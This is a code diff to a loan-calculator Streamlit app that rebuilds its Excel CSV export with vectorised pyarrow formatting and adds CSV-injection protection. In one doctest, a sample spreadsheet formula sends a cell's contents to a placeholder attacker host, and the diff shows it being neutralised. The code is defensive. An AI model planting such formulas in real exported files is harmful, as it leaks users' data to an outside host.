@@ -25,6 +25,7 @@ from typing import Any, Literal, cast
 import numpy as np
 import pandas as pd
 import pyarrow as pa
+import pyarrow.compute as pc
 import streamlit as st
 
 from calc import cashline as cl
@@ -32,13 +33,14 @@ from calc.burden import Peak, Timeline
 from calc.cash_vs_installment import CashVsInstallment
 from calc.compare import Comparison, PlanResult
 from calc.errors import CalcError
-from calc.money import round_fen
+from calc.money import round_fen, round_fen_array
 from ui.fmt import NO_VALUE, pct, yuan
 from ui.frames import to_frame
 from ui.i18n import error_text, t
 
 __all__ = ["Table", "Column", "money_col", "rate_col", "int_col", "text_col", "show",
-           "csv_on_demand", "comparison", "amortization", "flows", "statements", "ledger",
+           "csv_on_demand", "csv_text", "neutral", "FORMULA_START", "comparison",
+           "amortization", "flows", "statements", "ledger",
            "pay_rules", "versus", "burden", "budget"]
 
 
@@ -176,19 +178,116 @@ def show(where: Any, table: Table, key: str, **kw: Any) -> None:
                     **kw)
 
 
-def csv_on_demand(table: Table) -> Callable[[], str]:
+def csv_on_demand(table: Table, source: Callable[[], Table] | None = None) -> Callable[[], str]:
     """A function giving the table as CSV text for Excel (module docstring):
-    for ``st.download_button``, which calls it only when the file is asked for."""
+    for ``st.download_button``, which calls it only when the file is asked for.
+
+    With ``source`` the function keeps only the headers and ``source`` (a
+    function of the scenario's inputs, e.g. a ``functools.partial``), and
+    builds the data again when called: a session holds its download buttons'
+    functions while it lives and two minutes after it closes, and a century's
+    daily ledger is 4 MB (issue 20)."""
     # headers now, in the run's language: the file is made later, outside the
     # script run, where the session's language cannot be read
     headers = table.headers()
+    kept = None if source is not None else table
 
     def make() -> str:
-        frame = pd.DataFrame({headers[k]: [table.columns[k].csv(v) for v in vals]
-                              for k, vals in table.values().items()})
-        return "\ufeff" + str(frame.to_csv(index=False))
+        return csv_text(kept if kept is not None else source(), headers)  # type: ignore[misc]
 
     return make
+
+
+#: What a spreadsheet reads as a formula at the start of a cell (OWASP, CSV
+#: injection): tab and carriage return too, which some strip first.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral(text: str) -> str:
+    """``text`` as a spreadsheet shows it, never run as a formula: one that
+    begins with :data:`FORMULA_START` gets a leading single quote (OWASP's rule).
+
+    >>> print(neutral('=HYPERLINK("//ev.il/?"&B2,"Open")'), neutral("-5"), neutral("ok"))
+    '=HYPERLINK("//ev.il/?"&B2,"Open") '-5 ok
+    """
+    return "'" + text if text.startswith(FORMULA_START) else text
+
+
+def _neutral_array(arr: pa.Array) -> pa.Array:
+    risky = pc.match_substring_regex(arr, r"^[=+\-@\t\r]")
+    return pc.if_else(risky, pc.binary_join_element_wise("'", arr, ""), arr)
+
+
+def _quoted(arr: pa.Array) -> pa.Array:
+    """CSV quoting, as needed: a value with a comma, a quote or a line break
+    in double quotes, its quotes doubled."""
+    needs = pc.match_substring_regex(arr, r'[",\r\n]')
+    doubled = pc.replace_substring(arr, '"', '""')
+    return pc.if_else(needs, pc.binary_join_element_wise('"', doubled, '"', ""), arr)
+
+
+def _decimals(x: np.ndarray, places: int) -> pa.Array:
+    """Numbers as text with ``places`` decimals, half away from zero, no
+    ``-0.00``; NaN as null (an empty cell).  Whole arrays at once (the per
+    cell Python formatting took 0.4 s for a century's ledger)."""
+    missing = np.isnan(x)
+    scale = 10 ** places
+    clean = np.where(missing, 0.0, x)
+    if places == 2:  # to the fen as calc.money.round_fen (1.005 is 1.00499999... in binary)
+        units = np.rint(np.abs(round_fen_array(clean)) * scale).astype(np.int64)
+    else:  # as Python formats them, but for a rare tie
+        units = np.floor(np.abs(clean) * scale + 0.5).astype(np.int64)
+    sign = pa.array(np.where((x < 0) & (units > 0), "-", ""))
+    whole = pc.cast(pa.array(units // scale), pa.string())
+    frac = pc.utf8_lpad(pc.cast(pa.array(units % scale), pa.string()), places, "0")
+    text = pc.binary_join_element_wise(sign, pc.binary_join_element_wise(whole, frac, "."), "")
+    return pc.if_else(pa.array(missing), pa.scalar(None, pa.string()), text)
+
+
+def _csv_array(col: Column, values: Any) -> pa.Array:
+    """One column's cells as CSV text (nulls empty), the same as
+    :meth:`Column.csv` for each value."""
+    if col.kind == "text":
+        arr = pa.array(["" if _missing(v) else str(v) for v in values], pa.string())
+        return _quoted(_neutral_array(arr))
+    x = np.array([np.nan if _missing(v) else _float(v) for v in values], dtype=np.float64) \
+        if isinstance(values, list) else np.asarray(values, dtype=np.float64)
+    if col.kind == "money":
+        return _decimals(x, 2)
+    if col.kind in ("exact", "rate"):
+        return _decimals(x, 4)
+    whole = np.abs(x - np.round(x)) < 1e-9  # "int": whole numbers as integers
+    ints = pc.cast(pa.array(np.where(whole, np.round(x), 0.0).astype(np.int64)), pa.string())
+    return pc.if_else(pa.array(np.isnan(x)), pa.scalar(None, pa.string()),
+                      pc.if_else(pa.array(whole), ints, _decimals(x, 2)))
+
+
+def csv_text(table: Table, headers: dict[str, str] | None = None) -> str:
+    """``table`` as CSV text for Excel (module docstring), ``headers`` by
+    column name (else the run's); text cells and headers neutralised
+    (:func:`neutral`)."""
+    heads = headers if headers is not None else table.headers()
+    data = table.data
+    cols = []
+    for k, col in table.columns.items():
+        if isinstance(data, pa.Table):
+            values: Any = data.column(k).to_numpy(zero_copy_only=False) \
+                if col.kind != "text" else data.column(k).to_pylist()
+        else:
+            values = data[k].to_numpy(dtype=np.float64, na_value=np.nan) \
+                if col.kind != "text" else data[k].tolist()
+        if col.kind != "text" and isinstance(values, np.ndarray) and values.dtype == object:
+            values = values.tolist()
+        cols.append(_csv_array(col, values))
+    head = pa.array([neutral(heads[k]) for k in table.columns], pa.string())
+    header = ",".join(_quoted(head).to_pylist())
+    if cols:
+        rows = pc.binary_join_element_wise(*cols, ",", null_handling="replace",
+                                           null_replacement="")
+        body = "\n".join(rows.to_pylist())
+    else:
+        body = ""
+    return "\ufeff" + header + "\n" + (body + "\n" if body else "")
 
 
 # ---------------------------------------------------------------- comparison
